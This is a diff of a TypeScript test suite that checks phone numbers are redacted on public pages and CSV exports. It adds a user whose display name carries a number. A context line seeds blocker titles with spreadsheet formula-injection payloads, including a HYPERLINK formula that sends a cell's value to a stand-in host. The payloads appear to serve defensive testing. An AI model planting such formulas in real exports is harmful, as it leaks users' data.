@@ -54,11 +54,21 @@ function spreadsheetRows(text: string): string[][] {
 }
 
 /** The digits of every phone number used below, as they would show if not redacted. */
-const PHONES = ['0987654321', '0912/345/678', '+84 (912) 345 678', '0234 3822 123', '0976 111 222'];
+const PHONES = [
+  '0987654321',
+  '0912/345/678',
+  '+84 (912) 345 678',
+  '0234 3822 123',
+  '0976 111 222',
+  '0912 888 999',
+];
 const digits = (s: string) => s.replace(/\D/g, '');
 
 beforeAll(async () => {
   app = await testApp({ clock: new TestClock(new Date('2026-03-11T03:00:00Z')) });
+  // A person whose display name carries a phone number, made the owner of B-8 below.
+  const owner = { platform: 'slack' as const, id: 'UPHONE', name: 'Lan 0912 888 999' };
+  await app.dispatcher.handle({ text: '/help', who: owner, chat });
   for (const line of [
     '/unit add MOF "Ministry of Finance" block:government kind:ministry',
     '/unit add HUE "Hue City" block:government kind:locality',
@@ -80,6 +90,7 @@ beforeAll(async () => {
   const actor = await app.services.identity.resolve(admin, { asAdmin: true });
   for (const title of ['Budget line\r@SUM(A1:A9)', '  =HYPERLINK("http://x.example/?"&A1)'])
     await app.services.blockers.add(actor, { title, ownerUnit: 'MOF' });
+  await run('/blocker add Owned by a person with a number owner:MOF to:<@UPHONE> due:+5d');
   http = createHttpServer(app);
   base = `http://127.0.0.1:${await http.listen(0, '127.0.0.1')}`;
 }, 60_000);
@@ -110,6 +121,8 @@ describe('the leaking call: an untriaged hotline call on the public page', () =>
     expect(html).toContain('B-5');
     expect(html).toContain('reports the tax portal rejects e-invoices');
     for (const secret of ['Lê Văn C', 'Le Van C', '0976 111 222']) expect(html).not.toContain(secret);
+    // An owner's display name keeps its words, not its number.
+    expect(html).toContain('Lan […]');
   });
 });
 
@@ -123,6 +136,7 @@ describe('phone numbers in any format are redacted everywhere public', () => {
     const body = await get(path);
     expect(body).toContain('Call the desk at');
     expect(body).toContain('keeps ringing');
+    expect(body).toContain('Owned by a person with a number');
     if (!path.includes('.csv')) expect(body).toContain('Publish hotline');
     for (const p of PHONES) {
       expect(body).not.toContain(p);
